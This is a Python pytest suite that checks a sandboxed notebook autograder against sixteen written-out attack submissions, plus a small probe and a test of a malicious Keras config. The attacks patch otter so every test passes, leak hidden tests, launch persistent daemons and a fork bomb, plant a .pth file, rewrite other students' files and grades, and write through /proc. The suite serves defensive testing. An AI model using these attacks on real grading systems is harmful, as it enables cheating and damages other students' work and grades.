"""Attacks on the grader, each one a submission graded by the real pipeline (``grade.grade``).

Every attack below is what an adversarial student could hand in (see issue 18). Against the old
grader (``otter run`` in the student's process) most of them scored full marks or more, or
changed classmates' grades and files. Here each must score what it deserves (0 unless stated),
leave every other submission's grade and files intact, and leave no process behind.

To stay fast, most attacks are a one-cell notebook (the student copy's metadata and the attack;
no TensorFlow import), batched in one ``grade()`` call with the reference solution and an
untouched student copy, so each attack costs about a second of sandbox start-up.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import socket
import subprocess
import sys
import sysconfig
import threading
import time
import zipfile
from pathlib import Path

import nbformat
import psutil
import pytest

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT / "assignments"))

import build  # noqa: E402
import grade  # noqa: E402
import sandbox  # noqa: E402

needs_bwrap = pytest.mark.skipif(
    not sandbox.bwrap_available(),
    reason="bubblewrap (bwrap) is not installed or cannot create namespaces here; "
           "sandboxed grading cannot run (apt-get install bubblewrap)")

MARK = "987654"  # every daemon an attack starts sleeps this long: easy to find if it survived


def _sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def _tree_hashes(folder: Path) -> dict[str, str]:
    return {str(p.relative_to(folder)): _sha(p) for p in sorted(folder.rglob("*")) if p.is_file()}


def _survivors() -> list:
    found = []
    for p in psutil.process_iter(["cmdline"]):
        try:
            if any(MARK in part for part in (p.info["cmdline"] or [])):
                found.append(p)
        except psutil.Error:
            pass
    return found


def _notebook(template: Path, dest: Path, *sources: str, keep: bool = False) -> Path:
    """``template``'s metadata with ``sources`` as code cells (after its own cells if keep)."""
    nb = nbformat.read(template, as_version=4)
    cells = [nbformat.v4.new_code_cell(s) for s in sources]
    nb.cells = (nb.cells + cells) if keep else cells
    nbformat.write(nb, dest)
    return dest


@pytest.fixture(scope="module")
def built(tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp("attack-assignments")
    masters = build.masters()
    for name in ("ch06_practice", "ch04_fine_tuning"):
        build.build(name, masters[name], out, run_tests=False)
    return out


def _zip(built: Path, name: str) -> Path:
    return built / name / "autograder" / f"{name}-autograder.zip"


# ---------------------------------------------------------------------------------------------
# The attacks (source of the one code cell each). {zip}, {out}, {subs} and {zoo} are filled in
# with the real paths: assume the student knows the instructor's layout.
# ---------------------------------------------------------------------------------------------

DAEMON = f"""
import os, subprocess, sys
def daemon(code):
    # setsid + double fork: the grandchild leaves the kernel's session and process group
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            subprocess.Popen([sys.executable, "-c", code, "{MARK}"], start_new_session=True)
        os._exit(0)
    os.wait()
"""

ATTACKS = {
    # one cell that makes every otter test pass, whatever the answers
    "a01_monkeypatch_otter": """
import otter.test_files.exception_test as et
import otter.test_files.abstract_test as at
et.test_case.call_func = lambda self, env: None
et.ExceptionTestFile.run = lambda self, env: setattr(self, "test_case_results", [
    at.TestCaseResult(test_case=tc, message="ok", passed=True) for tc in self.test_cases])
at.TestFile.score = property(lambda self: 600)
""",
    # rewrite the test files (and raise their points) wherever they might be
    "a02_rewrite_tests": """
import glob, os
fake = 'from otter.test_files import test_case\\nname = "{{q}}"\\npoints = 600\\n' \\
       '@test_case(points=600)\\ndef t(): pass\\n'
for folder in ["tests", "../tests", "/tmp/tests", os.path.expanduser("~/tests"),
               "{zipdir}/tests"]:
    for q in ("q1", "q2", "q3", "status"):
        try:
            os.makedirs(folder, exist_ok=True)
            open(f"{{folder}}/{{q}}.py", "w").write(fake.format(q=q))
        except OSError:
            pass
""",
    # read the hidden tests wherever they might be, and smuggle them out through a test message
    "a03_read_hidden_tests": """
import os, zipfile
found = []
needle = "best_method(other) == " + "{{5: 'a'"  # a line of a hidden test
for top in [".", "..", "/tmp", os.path.expanduser("~"), "{root}", "{zipdir}"]:
    for folder, dirs, files in os.walk(top):
        dirs[:] = [d for d in dirs if d not in (".venv", "node_modules", "proc", "sys")]
        for f in files:
            path = os.path.join(folder, f)
            try:
                if f.endswith((".py", ".ipynb", ".json", ".zip")) and os.path.getsize(path) < 2e6:
                    text = open(path, errors="ignore").read()
                    if needle in text:
                        found.append(text)
            except OSError:
                continue
try:
    found.append(zipfile.ZipFile("{zip}").read("tests/q1.py").decode())
except Exception:
    pass
def best_method(results):
    raise ValueError("LEAK " + " ".join(found)[:5000])
""",
    # detached processes that rewrite results after the grader wrote them
    "a04_late_writer": DAEMON + """
code = '''
import time, os
for _ in range(200):
    for path in ["{out}/grades.csv", "{out}/z_solution.json", "results/results.json",
                 "/tmp/results.json"]:
        try:
            open(path, "w").write("submission,status,score\\\\na04_late_writer.ipynb,graded,999\\\\n")
        except OSError:
            pass
    time.sleep(0.1)
'''
daemon(code)
""",
    # the instructor's autograder zip, rewritten with tests that always pass
    "a05_rewrite_zip": """
import zipfile
try:
    with zipfile.ZipFile("{zip}", "a") as zf:
        zf.writestr("tests/q1.py", "name = 'q1'\\npoints = 600\\n")
except OSError:
    pass
try:
    open("{zip}", "wb").write(b"")
except OSError:
    pass
""",
    # classmates' notebooks (graded later in the batch) overwritten with {}
    "a06_classmates": """
import glob, os
for pattern in ["{subs}/*.ipynb", "../*.ipynb", "*.ipynb", "/tmp/**/*.ipynb"]:
    for path in glob.glob(pattern, recursive=True):
        try:
            open(path, "w").write("{{}}")
        except OSError:
            pass
""",
    # a .pth file that would run inside every later grading
    "a07_pth": f"""
import site, sysconfig, os
for folder in [sysconfig.get_paths()["purelib"], site.getusersitepackages(),
               *site.getsitepackages()]:
    try:
        os.makedirs(folder, exist_ok=True)
        open(os.path.join(folder, "zz_attack_{MARK}.pth"), "w").write(
            "import os; os.environ['ATTACKED'] = '1'\\n")
    except OSError:
        pass
""",
    # a question named `status` (the old grade.py crashed on it, and every later submission
    # went ungraded)
    "a08_status": """
import os
os.makedirs("tests", exist_ok=True)
open("tests/status.py", "w").write("name = 'status'\\npoints = 1\\n")
status = "graded"
""",
    # setsid double-forked daemons meant to outlive the grading
    "a09_daemons": DAEMON + """
daemon("import time; time.sleep(600)")
daemon("import time; time.sleep(600)")
""",
    # 4.8 GiB of memory (calloc: free until touched, so the test costs nothing if it passes)
    "a10_memory": """
big = bytearray(int(4.8 * 2**30))
""",
    # a 2 GiB file outside the scratch folder (sparse: one byte at 2 GiB), then inside it
    "a11_big_file": f"""
import os
for folder in ["/var/tmp", os.path.expanduser("~"), "/root", "{{root}}", "/dev/shm", "."]:
    try:
        with open(os.path.join(folder, "big_{MARK}.bin"), "wb") as fh:
            fh.seek(2 * 2**30)
            fh.write(b"x")
    except OSError:
        pass
""",
    # answers that compare equal to anything: the test's == would pass in the same process
    "a12_always_equal": """
class Anything:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __iter__(self): return iter([100])
    def __getitem__(self, key): return "fine_tune"
    def __len__(self): return 3
def best_method(results): return Anything()
def negative_transfer(results, method="fine_tune", baseline="scratch"): return Anything()
def freeze_batchnorm(model): return Anything()
""",
    # a forged answer frame written straight onto the runner's channel, then exit
    "a13_forged_channel": """
import os, struct, json
frame = json.dumps({{"h": {{"type": "answers", "values": {{"score": 600}}}}, "blobs": []}}).encode()
body = struct.pack("<Q", len(frame)) + frame
for fd in range(3, 64):
    try:
        os.write(fd, struct.pack("<Q", len(body)) + body)
        os.write(fd, struct.pack("<Q", 2**62))  # and a length the grader must not allocate
    except OSError:
        pass
os._exit(0)
""",
    # the network: reach a socket the grader machine listens on
    "a14_network": """
import socket
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"leak")
except OSError:
    pass
""",
    # a fork bomb (bounded, sleeping children)
    "a15_fork_bomb": """
import os, time
n = 0
try:
    for _ in range(3000):
        if os.fork() == 0:
            time.sleep(600)
            os._exit(0)
        n += 1
except OSError:
    pass
assert n < 3000, "the process limit did not stop the fork bomb"
""",
    # escape through /proc: the grader's files via another process's root or cwd
    "a16_proc": """
import glob, os
for link in glob.glob("/proc/*/cwd") + glob.glob("/proc/*/root"):
    for rel in ["grades.csv", "{out}/grades.csv"]:
        try:
            open(os.path.join(link, rel.lstrip("/")), "w").write("pwned")
        except OSError:
            pass
""",
}


@pytest.fixture(scope="module")
def ch06_batch(built, tmp_path_factory):
    """One grade() over: the attacks, then a classmate's untouched notebook and the reference
    solution (graded after every attack), and the attacks' targets, checked before and after."""
    name = "ch06_practice"
    zip_path = _zip(built, name)
    student = built / name / "student" / f"{name}.ipynb"
    solution = built / name / "autograder" / f"{name}.ipynb"
    base = tmp_path_factory.mktemp("ch06-attacks")
    subs, out = base / "submissions", base / "grades"
    subs.mkdir()
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(5)
    listener.settimeout(0.1)
    fill = {"zip": str(zip_path), "zipdir": str(zip_path.parent), "out": str(out),
            "subs": str(subs), "root": str(ROOT), "port": listener.getsockname()[1]}
    paths = [_notebook(student, subs / f"{stem}.ipynb", source.format(**fill))
             for stem, source in sorted(ATTACKS.items())]
    classmate = subs / "z_classmate.ipynb"
    classmate.write_bytes(student.read_bytes())
    paths.append(classmate)
    paths.append(_notebook(solution, subs / "z_solution.ipynb", keep=True))
    before = {"zip": _sha(zip_path), "subs": _tree_hashes(subs)}
    start = time.perf_counter()
    # a lower process limit than the default 512, so that the fork bomb hits it sooner
    rows = grade.grade(paths, zip_path, out, timeout=300, limits=grade.Limits(processes=128))
    seconds = time.perf_counter() - start
    on_disk_now = (out / "grades.csv").read_text()
    time.sleep(2)  # give any surviving late writer the chance to strike
    connected = []
    try:
        connected.append(listener.accept())
    except OSError:
        pass
    listener.close()
    return {"rows": {r["submission"]: r for r in rows}, "out": out, "subs": subs,
            "zip": zip_path, "before": before, "csv_at_return": on_disk_now,
            "seconds": seconds, "connected": connected, "names": [p.name for p in paths]}


@needs_bwrap
def test_every_attack_scores_zero(ch06_batch):
    rows = ch06_batch["rows"]
    for stem in ATTACKS:
        row = rows[f"{stem}.ipynb"]
        assert row["score"] == 0.0, row
        assert row["status"] in ("graded", "error"), row
        assert row["possible"] == 9.0


@needs_bwrap
def test_solutions_and_classmates_unaffected(ch06_batch):
    rows = ch06_batch["rows"]
    assert rows["z_solution.ipynb"]["percent"] == 100.0, rows["z_solution.ipynb"]
    assert rows["z_classmate.ipynb"]["status"] == "graded"
    assert rows["z_classmate.ipynb"]["score"] == 0.0  # an untouched copy


@needs_bwrap
def test_files_and_results_intact(ch06_batch):
    before = ch06_batch["before"]
    assert _sha(ch06_batch["zip"]) == before["zip"], "the autograder zip changed"
    assert _tree_hashes(ch06_batch["subs"]) == before["subs"], "a submission file changed"
    # grades.csv: every submission once, as the grader wrote it, unchanged after the run
    text = (ch06_batch["out"] / "grades.csv").read_text()
    assert text == ch06_batch["csv_at_return"]
    table = list(csv.DictReader(io.StringIO(text)))
    assert [r["submission"] for r in table] == ch06_batch["names"]
    assert all(float(r["score"]) <= float(r["possible"]) == 9.0 for r in table)
    assert "999" not in text and "pwned" not in text
    for path in ch06_batch["out"].iterdir():
        assert path.name == "grades.csv" or path.suffix == ".json", path
    assert json.loads((ch06_batch["out"] / "z_solution.json").read_text())["score"] == 9.0


@needs_bwrap
def test_nothing_persists_outside_the_sandbox(ch06_batch):
    assert not _survivors(), "a daemon outlived its sandbox"
    leftovers = [p for p in psutil.Process().children(recursive=True) if p.is_running()]
    assert not leftovers, leftovers
    purelib = sysconfig.get_paths()["purelib"]
    assert not [f for f in os.listdir(purelib) if MARK in f], "a .pth reached site-packages"
    for folder in ["/var/tmp", os.path.expanduser("~"), "/root", str(ROOT), "/dev/shm"]:
        assert not Path(folder, f"big_{MARK}.bin").exists(), folder
    assert "ATTACKED" not in os.environ
    assert not ch06_batch["connected"], "the sandbox reached the network"


@needs_bwrap
def test_hidden_tests_never_reach_the_sandbox(ch06_batch):
    results = json.loads((ch06_batch["out"] / "a03_read_hidden_tests.json").read_text())
    public = "".join(t["output"] for t in results["tests"])
    assert "LEAK" in public, "the attack's function was called by a public test"
    needle = "best_method(other) == " + "{5: 'a'"
    assert needle not in json.dumps(results), "a hidden test reached the student's side"


@needs_bwrap
def test_limits_reported(ch06_batch):
    for name in ("a10_memory.ipynb", "a15_fork_bomb.ipynb"):
        row = ch06_batch["rows"][name]
        assert row["status"] == "graded", row  # graded to zero, not stopped
    results = json.loads((ch06_batch["out"] / "a10_memory.json").read_text())
    assert results["cell_errors"] == ["cell 1: MemoryError"], results["cell_errors"]
    results = json.loads((ch06_batch["out"] / "a15_fork_bomb.json").read_text())
    assert results["cell_errors"] == [], "the fork bomb hit the process limit (no 3000 forks)"


@needs_bwrap
def test_timeout_kills_detached_daemons(built, tmp_path):
    name = "ch06_practice"
    student = built / name / "student" / f"{name}.ipynb"
    hang = _notebook(student, tmp_path / "hang.ipynb", ATTACKS["a09_daemons"],
                     "import time\nwhile True:\n    time.sleep(0.5)")
    start = time.perf_counter()
    (row,) = grade.grade([hang], _zip(built, name), tmp_path / "out", timeout=8)
    assert row["status"] == "timeout" and row["score"] == 0.0, row
    assert time.perf_counter() - start < 60
    time.sleep(0.5)
    assert not _survivors(), "a daemon outlived the timeout kill"
    assert not [p for p in psutil.Process().children(recursive=True) if p.is_running()]


# ---------------------------------------------------------------------------------------------
# ch04: the held-out set and the model zoo
# ---------------------------------------------------------------------------------------------

HELDOUT = """
import glob, os
import numpy as np
import keras
from tlutils import train
# a model that always says 0, and a held-out set of zeros labelled 0, wherever it might be
final_model = keras.Sequential([keras.Input((28, 28, 1)), keras.layers.Flatten(),
                                keras.layers.Dense(10, name="head")])
w, b = final_model.get_layer("head").get_weights()
final_model.get_layer("head").set_weights([0 * w, np.eye(10)[0] * 10])
for path in ["heldout_digits.npz", "../heldout_digits.npz", "{zipdir}/heldout_digits.npz",
             *glob.glob("/tmp/**/heldout_digits.npz", recursive=True)]:
    try:
        np.savez(path, x=np.zeros((20, 28, 28, 1), np.float32), y=np.zeros(20, np.int64))
    except OSError:
        pass
"""

ZOO = """
import glob, os
# forge every zoo entry reachable: garbage under the real keys, and a new entry
for folder in [os.environ["TLUTILS_CACHE_DIR"] + "/zoo", "{zoo}",
               os.path.expanduser("~/.cache/tlutils/zoo")]:
    for path in glob.glob(folder + "/*"):
        try:
            open(path, "wb").write(b"forged")
        except OSError:
            pass
    try:
        os.makedirs(folder, exist_ok=True)
        open(folder + "/0000forged.json", "w").write("{{}}")
    except OSError:
        pass
"""

PROBE = """
import hashlib, os
from pathlib import Path
zoo = Path(os.environ["TLUTILS_CACHE_DIR"]) / "zoo"
zoo_files = {p.name: hashlib.sha256(p.read_bytes()).hexdigest() for p in zoo.iterdir()
             if p.is_file() and p.suffix != ".lock"}
"""

PROBE_TEST = """from otter.test_files import test_case

OK_FORMAT = False

name = "q1"
points = None

@test_case(points=1, hidden=True)
def test_zoo_copy_is_pristine(zoo_files):
    assert zoo_files == EXPECTED
"""


@needs_bwrap
def test_heldout_attack(built, tmp_path):
    """Overwriting the held-out set wherever it might be: the grader's copy is out of reach,
    so a model that always answers 0 fails the held-out test (it deserves 0/13)."""
    name = "ch04_fine_tuning"
    zip_path = _zip(built, name)
    student = built / name / "student" / f"{name}.ipynb"
    sub = _notebook(student, tmp_path / "heldout.ipynb",
                    HELDOUT.format(zipdir=zip_path.parent))
    before = _sha(zip_path)
    (row,) = grade.grade([sub], zip_path, tmp_path / "out", timeout=600)
    assert row["status"] == "graded" and row["q3"] == 0.0 and row["score"] == 0.0, row
    assert _sha(zip_path) == before
    results = json.loads((tmp_path / "out" / "heldout.json").read_text())
    assert "held-out accuracy" in results["tests"][2]["hidden_output"], results["tests"][2]


@needs_bwrap
def test_forged_zoo_entry_reaches_nobody(tmp_path):
    """A submission forges every model-zoo entry it can reach; the next submission's zoo copy
    is still the real zoo, byte for byte (graded by a one-question probe assignment)."""
    zoo = grade._zoo_folder()
    zoo.mkdir(parents=True, exist_ok=True)
    (zoo / "probe-entry.json").write_text('{"key": "probe-entry"}')
    # Entries' content; lock files are empty and come and go with other tests' zoo use.
    expected = {p.name: _sha(p) for p in zoo.iterdir() if p.is_file() and p.suffix != ".lock"}
    zip_path = tmp_path / "probe-autograder.zip"
    with zipfile.ZipFile(zip_path, "w") as zf:
        zf.writestr("otter_config.json", json.dumps({"assignment_name": "probe"}))
        zf.writestr("tests/q1.py", PROBE_TEST.replace("EXPECTED", repr(expected)))
    nb = nbformat.v4.new_notebook(metadata={"otter": {"assignment_name": "probe"}})
    nbformat.write(nb, tmp_path / "template.ipynb")
    subs = tmp_path / "subs"
    subs.mkdir()
    paths = [_notebook(tmp_path / "template.ipynb", subs / "a_forger.ipynb",
                       ZOO.format(zoo=zoo)),
             _notebook(tmp_path / "template.ipynb", subs / "b_probe.ipynb", PROBE)]
    rows = grade.grade(paths, zip_path, tmp_path / "out", timeout=120)
    assert [r["score"] for r in rows] == [0.0, 1.0], rows
    assert {p.name: _sha(p) for p in zoo.iterdir()
            if p.is_file() and p.suffix != ".lock"} == expected
    (zoo / "probe-entry.json").unlink()


# ---------------------------------------------------------------------------------------------
# The grader's own boundaries, without a sandbox
# ---------------------------------------------------------------------------------------------

def test_decoder_refuses_code(tmp_path):
    """A Keras model whose configuration names foreign code is refused before loading, and the
    wire format has no pickle."""
    config = {"module": "os", "class_name": "system", "config": {"command": "touch pwned"}}
    blob = io.BytesIO()
    with zipfile.ZipFile(blob, "w") as zf:
        zf.writestr("config.json", json.dumps(config))
        zf.writestr("metadata.json", "{}")
    decoder = sandbox.Decoder({"b0": blob.getvalue()}, str(tmp_path))
    with pytest.raises(sandbox.SandboxError, match="module"):
        decoder.decode({"__keras__": "b0"})
    import numpy as np

    pickled = io.BytesIO()
    np.save(pickled, np.array([object()], dtype=object), allow_pickle=True)
    decoder = sandbox.Decoder({"b0": pickled.getvalue()}, str(tmp_path))
    with pytest.raises(sandbox.SandboxError, match="unreadable array"):
        decoder.decode({"__ndarray__": "b0"})
    with pytest.raises(sandbox.SandboxError):
        sandbox.Decoder({}, str(tmp_path)).decode({"__module__": "os"})
    with pytest.raises(sandbox.SandboxError):
        sandbox.module_reference("os")
    assert not (tmp_path / "pwned").exists()


def test_autograder_question_named_like_a_column(built, tmp_path):
    bad = tmp_path / "bad-autograder.zip"
    with zipfile.ZipFile(_zip(built, "ch06_practice")) as src, zipfile.ZipFile(bad, "w") as dst:
        for item in src.namelist():
            dst.writestr(item.replace("tests/q1.py", "tests/status.py"), src.read(item))
    with pytest.raises(ValueError, match="status"):
        grade.read_autograder(bad)


def test_points_come_from_the_zip_only(built):
    ag = grade.read_autograder(_zip(built, "ch06_practice"))
    assert ag.points == {"q1": 3.0, "q2": 3.0, "q3": 3.0}
    assert "heldout_digits.npz" in grade.read_autograder(_zip(built, "ch04_fine_tuning")).files


def test_refuses_untrusted_grading_without_bwrap(built, tmp_path, monkeypatch):
    """No sandbox, no grading, unless the instructor says the notebooks are trusted; then the
    same two phases run unsandboxed (limits and the process-tree kill still apply)."""
    name = "ch06_practice"
    student = built / name / "student" / f"{name}.ipynb"
    sub = _notebook(student, tmp_path / "sub.ipynb",
                    "def best_method(results):\n    return {1: 'fine_tune'}")
    monkeypatch.setattr(sandbox, "_BWRAP_OK", False)
    with pytest.raises(RuntimeError, match="bwrap"):
        grade.grade([sub], _zip(built, name), tmp_path / "out")
    assert not (tmp_path / "out" / "grades.csv").exists()
    (row,) = grade.grade([sub], _zip(built, name), tmp_path / "out", trusted=True, timeout=120)
    assert row["status"] == "graded" and row["score"] == 0.0, row
    results = json.loads((tmp_path / "out" / "sub.json").read_text())
    assert "best_method" not in results["not_exported"]


def test_kill_tree_never_touches_a_reaped_sandbox_pid():
    """Closing a sandbox that has already exited (and been reaped by the watchdog's poll) must
    not kill by its old pid: the pid may by then belong to another process, such as a notebook
    kernel of the test run beside the grader (CI stop 21 lost a kernel that way or to a port
    race). The kill goes through the psutil.Process taken at start, which knows it is gone."""
    import psutil

    gone = subprocess.Popen([sys.executable, "-c", "pass"])
    ps = psutil.Process(gone.pid)
    gone.wait()  # reaped: the pid is free for anyone
    sandbox._kill_tree(ps)  # a no-op, and no error

    live = subprocess.Popen([sys.executable, "-c",
                             "import subprocess, sys, time;"
                             "subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(60)']);"
                             "time.sleep(60)"])
    tree = psutil.Process(live.pid)
    deadline = time.time() + 30
    while not tree.children() and time.time() < deadline:
        time.sleep(0.05)
    child = tree.children()[0]
    sandbox._kill_tree(tree)  # psutil reaps them: Popen.wait would then read 0
    assert not tree.is_running() and not child.is_running()
    live.wait(timeout=10)


def _watch(processes: int) -> tuple[sandbox.Sandbox, subprocess.Popen]:
    """A sandbox object whose watchdog watches a shell that starts ``processes`` sleepers."""
    shell = subprocess.Popen(["bash", "-c", f"for i in $(seq {processes}); do sleep 30 & done;"
                              " wait"], start_new_session=True)
    box = sandbox.Sandbox.__new__(sandbox.Sandbox)
    box.proc, box.ps, box.killed_for = shell, psutil.Process(shell.pid), ""
    deadline = time.time() + 30
    while len(box.ps.children(recursive=True)) < processes and time.time() < deadline:
        time.sleep(0.05)
    return box, shell


def test_watchdog_acts_only_where_the_process_cap_failed():
    """The pids cgroup holds a sandbox's tasks (its own process included) to the cap, so its
    descendants stop one short of it; only there may the watchdog kill. It used to kill 8
    below the cap: a fork bomb the cgroup had already stopped (143 processes at a limit of
    128) then lost its sandbox, sometimes before the answers were out, and the attack test
    failed at random (CI run of stop 24)."""
    limit = 4
    cap = sandbox.watchdog_cap(limit)
    assert cap > limit
    box, shell = _watch(cap - 1)  # all the cgroup lets the sandbox's top process start
    try:
        watcher = threading.Thread(target=box._watchdog, args=(cap,), daemon=True)
        watcher.start()
        watcher.join(timeout=1.0)  # four polls
        assert box.killed_for == "" and shell.poll() is None
    finally:
        sandbox._kill_tree(box.ps)
    box, shell = _watch(cap)  # one more: the cap did not hold
    try:
        box._watchdog(cap)
        assert box.killed_for == f"{cap} processes (a limit of {limit})"
        assert not box.ps.is_running()
    finally:
        sandbox._kill_tree(box.ps)
